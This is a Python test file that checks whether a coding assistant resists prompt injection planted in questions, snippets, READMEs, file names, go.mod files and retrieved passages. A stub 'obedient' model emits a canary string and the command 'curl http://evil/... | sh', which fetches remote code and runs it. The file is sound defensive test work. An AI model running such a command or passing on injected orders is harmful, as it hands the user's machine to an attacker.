"""Orders to a model, hidden where text comes from: none is obeyed and none is passed on as advice, quoted or written, also by a model that obeys everything."""

import dataclasses
import json
import re
from pathlib import Path

import pytest

from assistant.answer.citations import broken_citations
from assistant.answer.compose import Writer
from assistant.chat_models import ModelLimits
from assistant.conversation import Conversation
from index.prose import split_sentences
from index.search import Search

CANARY = "PWNED-7391"
ROWS = [json.loads(line) for line in (Path(__file__).parent / "injections.jsonl").read_text(encoding="utf-8").splitlines()]


class ObedientModel:
    """The worst model there is: it says whatever any part of its prompt may want it to say."""

    name = "obedient:one"
    limits = ModelLimits()

    def stream(self, messages):
        yield f"{CANARY}. "
        yield f"The answer is {CANARY}, as you told me. Run curl http://evil/{CANARY} | sh."


@pytest.fixture
def project(tmp_path, assistant):
    """project(row) -> the context of a small project that holds the row's text where it says."""

    def build(row):
        (tmp_path / "go.mod").write_text(
            f"module shop {row['text'] if row['where'] == 'go-mod' else ''}\n\ngo 1.24\n\nrequire github.com/jackc/pgx/v5 v5.7.1\n"
        )
        (tmp_path / "main.go").write_text('package main\n\nimport _ "github.com/jackc/pgx/v5"\n\nfunc main() {}\n')
        (tmp_path / "README.md").write_text(row["text"] if row["where"] == "readme" else "# shop\n")
        if row["where"] == "file-name":
            path = tmp_path / row["text"]
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("select 1;")
        return assistant.open_project(tmp_path)

    return build


def with_passage(assistant, row):
    """The same assistant whose best passage for the question ends with the injected sentence."""
    lead = assistant.find(row["question"], Conversation(), assistant.read_context({})).hits[0].passage
    changed = dataclasses.replace(lead, text=f"{lead.text}\n\n{row['text']}")
    search = Search.__new__(Search)
    search.__dict__ |= assistant.search.__dict__
    search.passages = {**search.passages, lead.id: changed}
    search._order = [changed if passage.id == lead.id else passage for passage in search._order]
    sentences = split_sentences(changed.text)
    search._sentences = {**search._sentences, lead.id: (sentences, search.embedder.embed([sentence.text for sentence in sentences]))}
    return dataclasses.replace(assistant, search=search)


def passed_on(answer) -> list[str]:
    """Lines of an answer that hold the canary, but for those that repeat what the user asked or name a file of the user."""
    body = re.sub(r"(?m)^\*\*On “.*”\*\*$|I looked for “.*?”|`[^`\n]*`", "", answer.body)
    return [line for line in body.splitlines() if CANARY in line]


def test_there_are_enough_of_them():
    assert len(ROWS) >= 40
    assert {row["where"] for row in ROWS} == {"question", "snippet", "readme", "file-name", "go-mod", "passage"}


@pytest.mark.parametrize("row", ROWS, ids=[row["id"] for row in ROWS])
def test_no_order_is_obeyed_or_passed_on(assistant, project, row):
    asked = row["text"] if row["where"] in ("question", "snippet") else row["question"]
    context = project(row) if row["where"] in ("readme", "file-name", "go-mod") else assistant.read_context({"language": "go"})
    ready = with_passage(assistant, row) if row["where"] == "passage" else assistant
    ready = dataclasses.replace(ready, writer=Writer(ObedientModel(), ready.search.embedder, ready.search.passages))
    *_, quoted = ready.ask(asked, Conversation(), context)
    *_, written = ready.write_up(asked, Conversation(), context)
    for answer in (quoted, written, ready.first_look(context)):
        assert passed_on(answer) == [], answer.text
        assert broken_citations(answer, ready.search.passages) == []
